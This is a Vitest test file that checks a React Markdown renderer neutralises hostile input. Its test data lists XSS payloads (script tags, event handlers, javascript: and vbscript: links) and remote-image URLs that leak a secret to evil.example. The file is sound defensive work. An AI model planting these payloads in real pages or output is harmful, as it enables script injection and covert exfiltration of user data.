/** B16: what people and agents write is shown, and never runs, loads or leads where it should not. */
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { RichText } from '../../src/ui/markdown/RichText.tsx';

function rendered(markdown: string, open = false): HTMLElement {
  const root = document.createElement('div');
  root.innerHTML = renderToStaticMarkup(<RichText text={markdown} open={open} />);
  return root;
}

const HOSTILE: readonly (readonly [name: string, markdown: string])[] = [
  ['script', '<script>alert(1)</script>'],
  ['event handler', '<img src=x onerror=alert(1)>'],
  ['handler on known tag', '<b onclick="alert(1)">hello</b>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['form', '<form action="https://evil.example"><input name=a><button>Go</button></form>'],
  ['style', '<style>body{display:none}</style>'],
  ['style attribute', '<p style="position:fixed;inset:0">over everything</p>'],
  ['svg', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>'],
  ['javascript link', '[click](javascript:alert(1))'],
  ['javascript link, disguised', '[click](JaVaScRiPt&#58;alert(1))'],
  ['data link', '[click](data:text/html;base64,PHNjcmlwdD4=)'],
  ['vbscript link', '[click](vbscript:msgbox(1))'],
  ['protocol-relative link', '[click](//evil.example/path)'],
  ['autolink', '<javascript:alert(1)>'],
  ['remote picture', '![secret](https://evil.example/?leak=secret)'],
  ['remote picture by reference', '![secret][x]\n\n[x]: https://evil.example/?leak=secret'],
];

const FORBIDDEN =
  'script, iframe, form, style, svg, object, embed, img, link, meta, base, [style], [srcset], [onclick], [onerror], [onload]';

describe('hostile Markdown', () => {
  for (const [name, markdown] of HOSTILE)
    for (const open of [false, true])
      it(`is harmless: ${name}${open ? ', while it streams' : ''}`, () => {
        const root = rendered(markdown, open);
        expect([...root.querySelectorAll(FORBIDDEN)].map((element) => element.outerHTML)).toEqual([]);
        for (const link of root.querySelectorAll('a')) {
          expect(link.getAttribute('href')).toMatch(/^(?:https?:|mailto:)/u);
          expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
        }
      });

  it('does not make written HTML disappear', () => {
    expect(rendered('Use <Foo bar> here').textContent).toContain('<Foo bar>');
    expect(rendered('<script>alert(1)</script>').textContent).toContain('<script>alert(1)</script>');
  });

  it('shows a remote picture as a link that names its host', () => {
    const link = rendered('![a graph](https://example.org/graph.png)').querySelector('a');
    expect(link?.textContent).toBe('Picture: a graphexample.org');
  });

  it('shows where a link leads', () => {
    expect(rendered('[our bank](https://evil.example/login)').textContent).toBe('our bankevil.example');
    expect(rendered('https://example.org/a').textContent).toBe('https://example.org/a');
  });

  it('cannot take over ids that the page uses', () => {
    const root = rendered('note[^1]\n\n[^1]: text');
    for (const element of root.querySelectorAll('[id]')) expect(element.id).toMatch(/^said-/u);
  });
});
